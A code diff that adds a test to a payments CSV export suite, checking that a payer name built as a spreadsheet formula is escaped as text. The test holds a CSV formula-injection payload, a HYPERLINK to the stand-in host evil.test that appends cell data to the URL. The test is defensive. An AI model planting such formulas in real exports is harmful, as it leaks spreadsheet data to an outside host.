@@ -39,4 +39,22 @@ describe.skipIf(kind === "none")(`exportPaymentsCsv (${kind})`, () => {
     });
     expect(empty.rows).toBe(0);
   });
+
+  it("keeps a payer named like a spreadsheet formula as text", async () => {
+    const biller = await arrangeConfiguredBiller(db);
+    const { applicant, invoices } = await arrangeInvoices(db, biller.id, [5000]);
+    const hostile = '=HYPERLINK("http://evil.test/?d="&A1,"Click for refund")';
+    await db.user.update({ where: { id: applicant.id }, data: { name: hostile } });
+    await arrangeAttempt(db, { billerId: biller.id, applicantId: applicant.id, invoices });
+
+    const { csv } = await exportPaymentsCsv({
+      billerId: biller.id,
+      from: new Date(Date.now() - 3600_000),
+      to: new Date(Date.now() + 3600_000),
+    });
+    const row = csv.trim().split("\n")[1]!;
+    // The cell starts with a quote mark, so a spreadsheet shows it as text; the name is still there.
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Click for refund"")",`);
+    expect(row).not.toMatch(/(^|,)"?=HYPERLINK/);
+  });
 });
